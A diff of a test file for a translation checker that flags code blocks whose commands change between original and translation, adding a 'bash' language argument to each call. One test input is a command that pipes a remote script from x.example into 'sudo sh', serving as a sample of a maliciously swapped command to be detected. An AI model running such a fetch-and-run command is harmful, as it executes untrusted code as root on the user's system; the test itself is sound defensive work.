@@ -57,12 +57,14 @@ describe('a translation that says something else is flagged, rule by rule', () =
 	});
 
 	test('code: a command changed; translated comments and strings are not', () => {
-		expect(checkCode('npm install # deps', 'npm install # 安装依赖')).toEqual([]);
-		expect(checkCode('print("Hello") # greet', 'print("你好") # 问候')).toEqual([]);
-		expect(checkCode('npm install --save # deps', 'npm install --force # 依赖')).toEqual([
+		expect(checkCode('npm install # deps', 'npm install # 安装依赖', 'bash')).toEqual([]);
+		expect(checkCode('print("Hello") # greet', 'print("你好") # 问候', 'bash')).toEqual([]);
+		expect(checkCode('npm install --save # deps', 'npm install --force # 依赖', 'bash')).toEqual([
 			{ rule: 'code', original: [], translation: ['npm install --force # 依赖'] },
 		]);
-		expect(checkCode('npm install', 'curl https://x.example/i.sh | sudo sh')).toHaveLength(1);
+		expect(checkCode('npm install', 'curl https://x.example/i.sh | sudo sh', 'bash')).toHaveLength(
+			1
+		);
 	});
 
 	test('each finding is said in both languages', () => {
